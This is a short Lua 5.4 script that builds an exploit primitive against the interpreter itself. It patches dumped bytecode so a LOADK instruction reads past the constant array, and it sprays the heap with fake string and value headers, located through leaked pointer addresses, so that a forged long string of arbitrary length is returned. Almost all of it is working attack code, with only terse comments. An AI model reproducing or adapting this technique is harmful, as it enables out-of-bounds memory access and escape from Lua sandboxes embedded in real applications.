-- forged(length): a string that says to be so long. Precompiled code takes a constant from behind its own list of them, where a
-- string of ours lies that looks like one. (lobject.h: a TValue is value(8) tag(1) padding(7), a long TString next(4) tag(1)
-- marked(1) extra(1) shrlen(1) hash(4) length(4) text.)
local LONG_STRING <const> = 0x14
local COLLECTABLE <const> = 0x40
local HEADER <const> = 16
local LOADK <const> = 3

local function address(value) return tonumber(("%p"):format(value):sub(3), 16) end

-- The code of "return 1.5", which loads constant 0, made to load another one.
local function constant(index)
  local code = string.dump(load("return 1.5"), true)
  return load((code:gsub("\3\0\0\0", function() return ("<I4"):pack(LOADK | index << 15) end, 1)))
end

function forged(length)
  collectgarbage "stop" -- it would look into what we make
  local heads = ("<I4 I1I1I1I1 I4 I4"):pack(0, LONG_STRING, 0, 0, 0, 0, length):rep(64)
  local head = address(heads) + HEADER
  while head % 256 >= 16 do head = head + HEADER end -- its low byte is the tag, where all lies half a value off
  local kept = {} -- until some lie behind the code, near enough for the 17 bits of an index, and not half a value off
  for attempt = 1, 40 do
    local half = attempt % 2 == 0 and (" "):rep(8) or ""
    kept[attempt] = half .. ("<I8 I8"):pack(head, LONG_STRING | COLLECTABLE):rep(60000)
    for back = attempt, math.max(1, attempt - 3), -1 do
      local index = (address(kept[back]) + 500000 - address(constant(0))) // 16
      local made = index > 0 and index < 1 << 17 and constant(index)()
      if type(made) == "string" then return made end
    end
  end
  error("could not forge a string")
end
